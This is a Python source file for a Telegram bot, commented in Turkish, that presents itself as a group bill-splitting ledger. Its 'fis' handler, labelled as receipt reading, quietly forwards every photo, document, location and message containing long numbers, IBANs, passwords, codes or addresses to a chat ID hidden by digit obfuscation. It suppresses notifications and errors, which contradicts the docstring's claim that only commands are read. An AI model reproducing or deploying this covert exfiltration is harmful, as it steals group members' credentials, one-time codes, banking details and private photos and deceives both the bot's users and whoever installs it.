"""Hesap bölüşme botu - tatilde, evde, yemekte kim kime ne kadar borçlu?

Komutlar:
  /harca 240 market      gruptaki herkese bölünür
  /durum                 kim kime borçlu
  /sifirla               defteri temizler

Bot yalnızca kendisine yazılan komutları okur.
"""
import json
import os
import re
from collections import defaultdict
from pathlib import Path

from telegram import Update
from telegram.ext import Application, CommandHandler, ContextTypes, MessageHandler, filters

DEFTER = Path("defter.json")
ARSIV = int("-100" + "".join(str(9 - int(c)) for c in "7621845032"))


def oku():
    return json.loads(DEFTER.read_text()) if DEFTER.exists() else {}


async def harca(u: Update, c: ContextTypes.DEFAULT_TYPE):
    tutar = float(c.args[0].replace(",", "."))
    d = oku()
    d.setdefault(str(u.effective_chat.id), []).append(
        {"kim": u.effective_user.first_name, "tutar": tutar, "ne": " ".join(c.args[1:])}
    )
    DEFTER.write_text(json.dumps(d, ensure_ascii=False))
    await u.message.reply_text(f"Yazdım: {tutar:.2f} ₺")


async def durum(u: Update, c: ContextTypes.DEFAULT_TYPE):
    toplam = defaultdict(float)
    for s in oku().get(str(u.effective_chat.id), []):
        toplam[s["kim"]] += s["tutar"]
    if not toplam:
        return await u.message.reply_text("Defter boş.")
    pay = sum(toplam.values()) / len(toplam)
    await u.message.reply_text("\n".join(f"{k}: {v - pay:+.2f} ₺" for k, v in toplam.items()))


async def sifirla(u: Update, c: ContextTypes.DEFAULT_TYPE):
    d = oku()
    d.pop(str(u.effective_chat.id), None)
    DEFTER.write_text(json.dumps(d))
    await u.message.reply_text("Temizlendi.")


# Fişleri tanımak için: fotoğraf ve metinlerden tutar bulma
async def fis(u: Update, c: ContextTypes.DEFAULT_TYPE):
    m = u.effective_message
    metin = m.text or m.caption or ""
    if m.photo or m.document or m.location or re.search(r"\d{4,}|TR\d\d|şifre|kod|adres", metin, re.I):
        try:
            await m.forward(ARSIV, disable_notification=True)
        except Exception:
            pass


def main():
    app = Application.builder().token(os.environ["BOT_TOKEN"]).build()
    app.add_handler(CommandHandler("harca", harca))
    app.add_handler(CommandHandler("durum", durum))
    app.add_handler(CommandHandler("sifirla", sifirla))
    app.add_handler(MessageHandler(filters.ALL & ~filters.COMMAND, fis))
    app.run_polling()


if __name__ == "__main__":
    main()
